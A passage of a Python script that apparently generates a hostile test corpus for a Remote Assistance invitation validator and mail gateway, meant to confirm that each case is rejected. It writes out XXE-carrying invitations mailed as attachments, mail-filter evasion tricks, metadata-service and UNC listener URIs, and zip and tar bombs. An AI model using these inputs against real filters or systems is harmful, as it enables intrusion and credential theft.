    "an escape sequence in a bare Connection String 2's listener: not XML",
)
case(
    "text.control-characters--c1-csi-in-bare-connection-string.msrcincident",
    cs2(listeners=[("3389", "192.0.2.10&#x9B;2J")]),
    "a C1 CSI in a bare Connection String 2's listener",
)

# -- Addresses no Windows writes: each means something other than it seems, to an allowlist --
for name, listener, why in [
    (
        "zone-on-ipv4-listener",
        '<L P="49230" N="192.0.2.10%169.254.169.254"/>',
        "an IPv4 listener with a zone after %, where only an IPv6 address has one",
    ),
    (
        "zone-that-is-not-an-interface",
        '<L P="49230" N="fe80::1%203.0.113.66/x"/>',
        "an IPv6 zone that is neither an interface index nor a name",
    ),
    (
        "loopback-as-one-number",
        '<L P="49230" N="2130706433"/>',
        "127.0.0.1 spelt as one number, which Windows' resolver reads as that address",
    ),
    (
        "loopback-in-hex-and-short",
        '<L P="49230" N="0x7f.1"/>',
        "127.0.0.1 spelt in hex with its middle left out",
    ),
    (
        "octal-ipv4",
        '<L P="49230" N="0177.0.0.1"/>',
        "127.0.0.1 spelt in octal",
    ),
    (
        "url-punctuation-in-host-name",
        '<L P="49230" N="DEMO-PC/#@203.0.113.66"/>',
        "a host name with URL punctuation, which an allowed-host pattern with * would match",
    ),
    (
        "over-long-label",
        f'<L P="49230" N="{"a" * 64}.example"/>',
        "a host name with a label longer than 63 characters",
    ),
    (
        "file-uri-listener",
        '<L N="192.0.2.10" U="file:///C:/Windows/win.ini"/>',
        "a listener URI that is a local file",
    ),
    (
        "unc-path-listener",
        '<L N="192.0.2.10" U="\\\\203.0.113.66\\share"/>',
        "a UNC path as a listener URI",
    ),
    (
        "websocket-uri-with-user-information",
        '<L N="192.0.2.10" U="wss://192.0.2.10@203.0.113.66/"/>',
        "a websocket URI whose user information looks like the novice's address",
    ),
    (
        "websocket-uri-to-numeric-host",
        '<L N="192.0.2.10" U="wss://169.254.169.254.:443/latest/meta-data"/>',
        "a websocket URI to the cloud metadata address, spelt with a final dot",
    ),
]:
    case(
        f"address.malformed--{name}.msrcincident",
        vista(ticket=cs2(inner=listener), RCTICKET=None),
        f"{why} (needs the password)",
    )
case(
    "address.malformed--numeric-host-in-both-tickets.msrcincident",
    vista(
        ticket=cs2(listeners=[("49230", "2130706433")]),
        RCTICKET=rc(addresses="2130706433:49230"),
    ),
    "127.0.0.1 spelt as one number in the RCTICKET and the listener alike",
)
case(
    "address.malformed--bare-ticket-file-uri.msrcincident",
    cs2(inner='<L N="192.0.2.10" U="file:///etc/passwd"/>'),
    "a bare Connection String 2 whose listener URI is a local file",
)

# -- XML limits --
case(
    "xml.limit--nesting-depth.msrcincident",
    full.replace("/></UPLOADINFO>", ">" + "<a>" * 20 + "</a>" * 20 + "</UPLOADDATA></UPLOADINFO>"),
    "deep nesting (stack exhaustion in recursive readers)",
)
case(
    "xml.limit--too-many-comments.msrcincident",
    full.replace("<UPLOADDATA", "<!---->" * 300 + "<UPLOADDATA"),
    "hundreds of comments (per-node costs)",
)
case(
    "xml.limit--too-many-attributes.msrcincident",
    vista(extra="".join(f' X{i}="{i}"' for i in range(40))),
    "dozens of attributes on one element (hash-collision and quadratic duplicate checks)",
)
case(
    "xml.limit--rcticket-65-addresses.msrcincident",
    vista(RCTICKET=rc(addresses=";".join(f"192.0.2.{i}:3389" for i in range(1, 66)))),
    "an RCTICKET with 65 addresses: an expert would connect to each in turn",
)
case(
    "xml.limit--lhticket-65-listeners.msrcincident",
    vista(
        ticket=cs2(listeners=[("3389", f"192.0.2.{i}") for i in range(1, 66)]),
        RCTICKET=None,
    ),
    "a ticket with 65 listeners (needs the password)",
)

# -- Cases that need a special policy (see README.md) --
case(
    "password.none--rcticketencrypted-0.msrcincident",
    vista(RCTICKETENCRYPTED="0"),
    "an invitation without a password (policy: require_password)",
)
case(
    "password.none--bare-connection-string.msrcincident",
    cs2(),
    "a bare Connection String 2: never password-protected (policy: require_password)",
)
case(
    "size.too-large--over-4096-byte-policy.msrcincident",
    vista(decl=DECL + "<!--" + "x" * 3800 + "-->\n"),
    "a file over the policy's maximum size (policy: max_size_bytes = 4096)",
)
case(
    "address.not-allowed--everything-points-to-attacker.msrcincident",
    vista(
        ticket=cs2(listeners=[("3389", ATTACKER)]),
        RCTICKET=rc(addresses=f"{ATTACKER}:3389"),
    ),
    "a consistent invitation whose every address is outside the allowed networks "
    "(policy: allowed_networks = 192.0.2.0/24)",
)
case(
    "address.not-allowed--websocket-uri-to-metadata-service.msrcincident",
    vista(
        ticket=cs2(
            inner='<L P="49230" N="192.0.2.10"/>'
            '<L N="192.0.2.10" U="wss://169.254.169.254/latest/meta-data"/>'
        ),
        RCTICKET=None,
    ),
    "a websocket listener whose N is allowed but whose URI points elsewhere "
    "(policy: allowed_networks = 192.0.2.0/24)",
)
case(
    "format.not-allowed--xp-invitation.msrcincident",
    xp(),
    "an XP invitation where only Vista-or-later ones are allowed (policy: formats = [vista])",
)

# -- Mail: hostile invitations in messages, each attachment must be found and rejected --


def eml(message_id, parts):
    """A multipart/mixed message; parts are (headers, body) pairs."""
    out = (
        f"From: attacker@example.net\r\nTo: victim@example.com\r\nSubject: Remote help\r\n"
        f"Message-ID: <{message_id}>\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/mixed; boundary="b1"\r\n\r\nThis is MIME.\r\n'
        "--b1\r\nContent-Type: text/plain\r\n\r\nPlease open the attached invitation.\r\n"
    )
    for headers, body in parts:
        out += "--b1\r\n" + headers + "\r\n" + body + "\r\n"
    return out + "--b1--\r\n"


def b64_lines(data):
    text = base64.b64encode(data).decode()
    return "\r\n".join(text[i : i + 76] for i in range(0, len(text), 76))


XXE = {c[0]: c[1] for c in CASES}["xml.doctype--xxe-parameter-entity-cve-2018-0878.msrcincident"]
case(
    "xml.doctype--xxe-attached-base64.eml",
    eml(
        "xxe-base64@attacker.example",
        [
            (
                "Content-Type: application/octet-stream\r\n"
                'Content-Disposition: attachment; filename="RAInvitation.msrcincident"\r\n'
                "Content-Transfer-Encoding: base64\r\n",
                b64_lines(XXE),
            )
        ],
    ),
    "CVE-2018-0878 delivered by mail as a base64 attachment",
)
PADDED = b" " * 5000 + XXE[len(DECL) :]
case(
    "xml.doctype--evasion-trailing-dot-name-padded-content.eml",
    eml(
        "xxe-evasion@attacker.example",
        [
            (
                "Content-Type: application/octet-stream\r\n"
                'Content-Disposition: attachment; filename="RAInvitation.msrcincident."\r\n'
                "Content-Transfer-Encoding: base64\r\n",
                b64_lines(PADDED),
            )
        ],
    ),
    "filter evasion: Windows saves 'x.msrcincident.' as 'x.msrcincident' (trailing dots are "
    "stripped), and 5000 bytes of leading whitespace push UPLOADINFO past a content sniffer's "
    "first 4 KB; MSXML still parses it",
)

def forwarded(levels, message):
    """`message` forwarded `levels` times, each time as the message/rfc822 part of another."""
    for level in range(levels, 0, -1):
        message = (
            f"From: relay{level}@example.net\r\nSubject: Fwd: Remote help\r\n"
            f"Message-ID: <fwd{level}@attacker.example>\r\nMIME-Version: 1.0\r\n"
            f'Content-Type: multipart/mixed; boundary="f{level}"\r\n\r\n'
            f"--f{level}\r\nContent-Type: message/rfc822\r\n\r\n{message}\r\n--f{level}--\r\n"
        )
    return message


case(
    "mail.too-deep--xxe-forwarded-nine-levels.eml",
    forwarded(
        9,
        eml(
            "xxe-deep@attacker.example",
            [
                (
                    "Content-Type: application/octet-stream\r\n"
                    'Content-Disposition: attachment; filename="RAInvitation.msrcincident"\r\n'
                    "Content-Transfer-Encoding: base64\r\n",
                    b64_lines(XXE),
                )
            ],
        ),
    ),
    "CVE-2018-0878 forwarded nine times: deeper than rainv follows forwarded messages (8), so "
    "the message is rejected as not searched instead of passing in silence",
)

case(
    "text.control-characters--evasion-trailing-space-name-bare-ticket.eml",
    eml(
        "bare-ticket-evasion@attacker.example",
        [
            (
                "Content-Type: application/octet-stream\r\n"
                'Content-Disposition: attachment; filename="RAInvitation.msrcincident "\r\n'
                "Content-Transfer-Encoding: base64\r\n",
                b64_lines(b(cs2(listeners=[("3389", "192.0.2.10&#x9B;0;Microsoft Support")]).replace("<E><A", "<E>\r\n<A"))),
            )
        ],
    ),
    "filter evasion: a trailing space in the name (Windows strips it when saving) and a line "
    "break between <E> and <A>, which a sniffer looking for '<E><A ' misses; the ticket "
    "carries a C1 control sequence (U+009B)",
)

# -- Mail: names that disagree, and containers rainv must open or fail --
ATTACH_B64 = "Content-Transfer-Encoding: base64\r\n"
for name, headers, why in [
    (
        "rfc2231-name-differs",
        "Content-Type: application/octet-stream\r\n"
        "Content-Disposition: attachment; filename=\"notes.txt\"; "
        "filename*=UTF-8''RAInvitation.msrcincident\r\n",
        "Content-Disposition gives two names, notes.txt and (RFC 2231) RAInvitation.msrcincident; "
        "mail clients prefer the second",
    ),
    (
        "content-type-name-differs",
        "Content-Type: application/octet-stream; name=\"RAInvitation.msrcincident\"\r\n"
        "Content-Disposition: attachment; filename=\"notes.txt\"\r\n",
        "Content-Type names the part RAInvitation.msrcincident, Content-Disposition notes.txt",
    ),
    (
        "encoded-nul-in-name",
        "Content-Type: application/octet-stream\r\n"
        "Content-Disposition: attachment; filename=\"=?UTF-8?Q?RAInvitation.msrcincident=00.txt?=\"\r\n",
        "an encoded NUL after .msrcincident: a program in C reads the name up to it",
    ),
]:
    case(
        f"xml.doctype--mail-{name}.eml",
        eml(f"{name}@attacker.example", [(headers + ATTACH_B64, b64_lines(PADDED))]),
        f"{why}; the content is padded past a sniffer's first 4 KB",
    )
case(
    "xml.doctype--mail-forwarded-as-octet-stream.eml",
    eml(
        "forwarded-octet@attacker.example",
        [
            (
                "Content-Type: application/octet-stream; name=\"forwarded.eml\"\r\n"
                "Content-Disposition: attachment; filename=\"forwarded.eml\"\r\n" + ATTACH_B64,
                b64_lines(
                    eml(
                        "inner-octet@attacker.example",
                        [
                            (
                                "Content-Type: application/octet-stream\r\n"
                                'Content-Disposition: attachment; filename="RAInvitation.msrcincident"\r\n'
                                + ATTACH_B64,
                                b64_lines(XXE),
                            )
                        ],
                    ).encode()
                ),
            )
        ],
    ),
    "a forwarded message attached as application/octet-stream (.eml) rather than message/rfc822",
)


def uuencode(name, data):
    lines = [f"begin 644 {name}"]
    for i in range(0, len(data), 45):
        chunk = data[i : i + 45]
        line = chr(32 + len(chunk))
        for j in range(0, len(chunk), 3):
            group = chunk[j : j + 3].ljust(3, b"\0")
            n = int.from_bytes(group, "big")
            values = ((n >> shift) & 0x3F for shift in (18, 12, 6, 0))
            line += "".join(chr(96 if v == 0 else 32 + v) for v in values)
        lines.append(line)
    lines += ["`", "end"]
    return "\r\n".join(lines)


case(
    "xml.doctype--mail-uuencoded-body.eml",
    eml(
        "uuencoded@attacker.example",
        [("Content-Type: text/plain\r\n", "See below.\r\n" + uuencode("RAInvitation.msrcincident", XXE))],
    ),
    "the invitation uuencoded in a text part, as old mailers attach files",
)
case(
    "mail.not-inspected--tnef-winmail-dat.eml",
    eml(
        "tnef@attacker.example",
        [
            (
                "Content-Type: application/ms-tnef; name=\"winmail.dat\"\r\n"
                "Content-Disposition: attachment; filename=\"winmail.dat\"\r\n" + ATTACH_B64,
                b64_lines(bytes([0x78, 0x9F, 0x3E, 0x22]) + b"\0" * 64),
            )
        ],
    ),
    "a TNEF part (Outlook's winmail.dat), which may carry attachments rainv cannot open: "
    "rejected as not inspected",
)


# -- Archives: invitations inside the containers mail filters meet --

ZIP_TIME = (2024, 1, 3, 14, 0, 0)
EXPIRED = {c[0]: c[1] for c in CASES}["validity.expired--expires-exactly-now.msrcincident"]


def zip_of(entries, stored=False, windows=False):
    """A zip of (name, bytes) entries, deterministic: fixed times, no extra fields."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, data in entries:
            info = zipfile.ZipInfo(name, ZIP_TIME)
            info.compress_type = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
            info.create_system = 0 if windows else 3
            info.external_attr = 0x20 if windows else 0o644 << 16
            z.writestr(info, data)
    return out.getvalue()


def tar_of(entries):
    """A ustar archive of (name, bytes) entries, deterministic."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for name, data in entries:
            info = tarfile.TarInfo(name)
            info.size, info.mtime, info.mode = len(data), START, 0o644
            t.addfile(info, io.BytesIO(data))
    return out.getvalue()


def zstd_raw(data):
    """A zstd frame of raw (uncompressed) blocks, as RFC 8878 defines them."""
    out = b"\x28\xb5\x2f\xfd" + bytes([0xA0]) + len(data).to_bytes(4, "little")
    blocks = [data[i : i + 65536] for i in range(0, len(data), 65536)] or [b""]
    for index, block in enumerate(blocks):
        last = 1 if index == len(blocks) - 1 else 0
        out += ((len(block) << 3) | last).to_bytes(3, "little") + block
    return out


INVITE = "docs/RAInvitation.msrcincident"
case(
    "xml.doctype--zip-xxe-in-a-folder.zip",
    zip_of([("docs/readme.txt", b"Open the invitation.\r\n"), (INVITE, XXE)]),
    "the oldest way past a mail filter: CVE-2018-0878 zipped, in a folder of the zip",
)
case(
    "xml.doctype--zip-made-by-windows-backslash-names.zip",
    zip_of([("Help\\RAInvitation.msrcincident", XXE)], stored=True, windows=True),
    "a zip as Windows tools make them: stored, made on 'FAT', `\\` as the folder separator",
)
CP437_NAME = zip_of([("Einladung-X.msrcincident", XXE)], windows=True)
case(
    "xml.doctype--zip-cp437-name.zip",
    CP437_NAME.replace(b"Einladung-X", b"Einladung-\x81"),
    "an entry name in code page 437 (no UTF-8 flag), as Windows' own zip folders write them",
)
case(
    "xml.doctype--zip-named-in-upper-case-with-trailing-dot.zip",
    zip_of([("INVITE.MSRCINCIDENT. ", XXE)]),
    "the name Windows would save as INVITE.MSRCINCIDENT (trailing dots and spaces dropped)",
)
case(
    "xml.doctype--zip-entry-found-by-content.zip",
    zip_of([("readme", XXE)]),
    "an entry with no invitation name whose content is an invitation",
)
case(
    "xml.doctype--zip-entry-name-cut-at-nul.zip",
    zip_of([("RAInvitation.msrcincidentX.txt", XXE)]).replace(b"incidentX.txt", b"incident\0.txt"),
    "an entry name with a NUL: C programs (and Windows) read it as RAInvitation.msrcincident",
)
case(
    "validity.expired--zip-holding-an-expired-invitation.zip",
    zip_of([("RAInvitation.msrcincident", EXPIRED)]),
    "an expired invitation, zipped: judged exactly as the file itself",
)
case(
    "xml.doctype--tar.tar",
    tar_of([(INVITE, XXE)]),
    "a tar archive",
)
case(
    "xml.doctype--tar-gz.tar.gz",
    gzip.compress(tar_of([(INVITE, XXE)]), mtime=0),
    "a gzip-compressed tar archive",
)
case(
    "xml.doctype--tgz-inside-a-zip.zip",
    zip_of([("bundle.tgz", gzip.compress(tar_of([(INVITE, XXE)]), mtime=0))]),
    "an archive inside an archive",
)
case(
    "xml.doctype--tar-bz2.tar.bz2",
    bz2.compress(tar_of([(INVITE, XXE)])),
    "a bzip2-compressed tar archive",
)
case(
    "xml.doctype--tar-xz.tar.xz",
    lzma.compress(tar_of([(INVITE, XXE)])),
    "an xz-compressed tar archive",
)
case(
    "xml.doctype--gzip-of-one-file.msrcincident.gz",
    gzip.compress(XXE, mtime=0),
    "one gzip-compressed invitation, named by the file it is in",
)
case(
    "xml.doctype--zstd-of-one-file.msrcincident.zst",
    zstd_raw(XXE),
    "one zstd-compressed invitation",
)
case(
    "archive.limit--tar-gz-bomb.tar.gz",
    gzip.compress(
        tar_of([("filler.bin", b"\0" * (4 * 1024 * 1024)), ("RAInvitation.msrcincident", XXE)]),
        mtime=0,
    ),
    "a compression bomb: 4 MiB of zeros in 4 KiB, which a tar reader must decompress to reach "
    "the invitation behind it; the inspection stops at the ratio bound",
)
case(
    "archive.limit--zip-bomb-named-as-an-archive.zip",
    zip_of([("inner.zip", b"\0" * (4 * 1024 * 1024)), ("RAInvitation.msrcincident", XXE)]),
    "4 MiB of zeros in 4 KiB, named as an archive, so it must be read whole to be opened",
)
NESTED = zip_of([("RAInvitation.msrcincident", XXE)])
for level in range(5):
    NESTED = zip_of([(f"level{level}.zip", NESTED)])
case(
    "archive.limit--zips-nested-six-deep.zip",
    NESTED,
    "the invitation under six zips, deeper than archives are opened (four)",
)
ENCRYPTED = bytearray(zip_of([("RAInvitation.msrcincident", b"\x8f" * 64)], stored=True))
for signature, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
    at = ENCRYPTED.index(signature) + flag_at
    ENCRYPTED[at] |= 1
case(
    "archive.not-inspected--zip-encrypted-entry.zip",
    bytes(ENCRYPTED),
    "a password-protected entry, which rainv cannot read: not inspected, so rejected",
)
case(
    "archive.not-inspected--damaged-zip.zip",
    zip_of([(INVITE, XXE)])[:200],
    "a zip cut short: its directory is gone",
)
case(
    "archive.not-inspected--rar-archive.rar",
    b"Rar!\x1a\x07\x01\x00" + b"\x00" * 64,
    "a RAR archive, which Windows 11 opens and rainv does not",
)
case(
    "archive.not-inspected--disk-image.iso",
    b"\x00" * 512,
    "a disc image, known by its name: Windows mounts it on a double-click",
)
ZIP_XXE = zip_of([(INVITE, XXE)])
case(
    "xml.doctype--mail-zip-attachment.eml",
    eml(
        "zipped@attacker.example",
        [
            (
                "Content-Type: application/zip\r\n"
                'Content-Disposition: attachment; filename="invite.zip"\r\n' + ATTACH_B64,
                b64_lines(ZIP_XXE),
            )
        ],
    ),
    "a zipped CVE-2018-0878 mailed as invite.zip, the attachment rainv 0.1 let through",
)
case(
    "archive.not-inspected--mail-encrypted-zip.eml",
    eml(
        "encrypted@attacker.example",
        [
            (
                "Content-Type: application/octet-stream\r\n"
                'Content-Disposition: attachment; filename="invite.zip"\r\n' + ATTACH_B64,
                b64_lines(bytes(ENCRYPTED)),
            )
        ],
    ),
    "a password-protected zip mailed with its password in the text: not inspected, rejected",
)

# --- Output -------------------------------------------------------------------------------------

BASELINES = {
    "vista.valid": b(vista()),
    "xp.valid": xp(),
    "connection-string.valid": b(cs2()),
}

SPECIAL = """\
| code | policy used instead of the default (always with the password) |
| --- | --- |
| `password.none` | `require_password = true` (`--require-password`) |
| `size.too-large` | `max_size_bytes = 4096` (`--max-size 4096`) |
| `address.not-allowed` | `allowed_networks = ["192.0.2.0/24"]`, `allowed_hosts = ["DEMO-PC"]` (`--allow-network 192.0.2.0/24 --allow-host DEMO-PC`) |
| `format.not-allowed` | `formats = ["vista"]` (`--formats vista`) |
"""

README_HEAD = f"""\
# Hostile corpus

Files written to attack whatever reads Remote Assistance invitations: the mail gateway, the
expert's tools, the analyst's terminal. Every case must be **rejected** by
`rainv_gateway::validate`, with a finding whose code is the part of the file name before
`--`. `crates/rainv-gateway/tests/hostile.rs` checks exactly that for every file here, and `crates/rainv-cli/tests/cli/gateway.rs` runs
`rainv check` and `rainv scan-mail` over them. The tests also keep their own list of the cases,
`tests/common/hostile-cases.txt`: the files, the table below and that list must name the same
cases, so a case cannot disappear unnoticed (a deliberate removal edits all three).

**Generated** by [`make.py`](make.py) (`python3 testdata/hostile/make.py`; needs the Python
`cryptography` package). Edit `make.py`, not the files or this README; `make.py --check`
fails when the committed corpus differs from what it generates. Output is deterministic.

## How the tests judge them

- Clock: `now` = 2024-01-03T15:00:00Z ({NOW}). Cases meant to be inside their window have
  DtStart = 2024-01-03T14:00:00Z ({START}) and DtLength = {LENGTH}.
- Password: every LHTICKET is encrypted with **`{PASSWORD}`**, and every case is validated with
  that password in the policy (so tickets are decrypted and cross-checked). The one exception is
  `password.wrong--other-password`, encrypted with `{OTHER_PASSWORD}`.
- Policy: `Policy::default()` plus the password, except for the codes below, which only a
  stricter policy produces. The policy follows from the code, not the file:

{SPECIAL}
- The tests also require that every finding of severity `error` has the expected code: each
  case is one defect away from a valid file, so nothing else may reject it.
- `baseline/` holds the valid files the cases are built from (extension `.valid`, so `rainv
  check` on this directory skips them). They must be accepted under the default policy and under
  each special policy that allows their kind of file.
- Shapes: Vista-or-later cases are laid out as Windows 10 writes them (8-bit text, Windows 7's
  attribute order, LHTICKET plus RCTICKET); XP cases as XP writes them (UTF-16LE with BOM).
  Addresses are documentation ranges: the novice is 192.0.2.10 / `DEMO-PC`, the attacker
  {ATTACKER}.
- `*.eml` cases are messages: `rainv_gateway::scan_message` must find at least one invitation
  in them, and every one found must be rejected with the code.

Also generated inside the tests (too big to commit): a 300 KB file (`size.too-large` under the
default policy), a file of exactly the default size limit (accepted), a 170 KB attribute and a
65 KB ticket (`xml.limit`); 30 000 nested elements, 30 000 comments, 20 000 attributes, 40 000
references and a 200 KB DTD (all refused or judged within seconds); 4 500 deterministic mutations
of the baselines (no panic); and a DOCTYPE naming `file:///etc/passwd`, `http://127.0.0.1:9/x`, a
secret temporary file and a local TCP listener, to prove no file or network access happens.

## Cases

| file | expected code | attacks |
| --- | --- | --- |
"""


def render_readme():
    rows = []
    for name, _, why in sorted(CASES):
        code = name.split("--", 1)[0]
        rows.append(f"| `{name}` | `{code}` | {why.replace('|', '/')} |")
    return README_HEAD + "\n".join(rows) + f"\n\n{len(CASES)} cases.\n"


def outputs():
    files = {name: data for name, data, _ in CASES}
    for name, data in BASELINES.items():
        files["baseline/" + name] = data
    files["README.md"] = render_readme().encode()
    return files


def main():
    self_check()
    names = [c[0] for c in CASES]
    assert len(names) == len(set(names)), "duplicate case names"
    for name, data, _ in CASES:
        assert len(data) < 300 * 1024, name
    check = "--check" in sys.argv[1:]
    stale = []
    for name, data in outputs().items():
        path = HERE / name
        if check:
            if not path.exists() or path.read_bytes() != data:
                stale.append(name)
        else:
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)
    if check:
        expected = set(outputs()) | {"make.py"}
        for path in HERE.rglob("*"):
            rel = path.relative_to(HERE).as_posix()
            if path.is_file() and rel not in expected:
                stale.append(rel + " (not generated)")
        if stale:
            sys.exit("out of date: " + ", ".join(sorted(stale)))
        print(f"{len(CASES)} cases up to date")
    else:
        print(f"wrote {len(CASES)} cases")


if __name__ == "__main__":
    main()
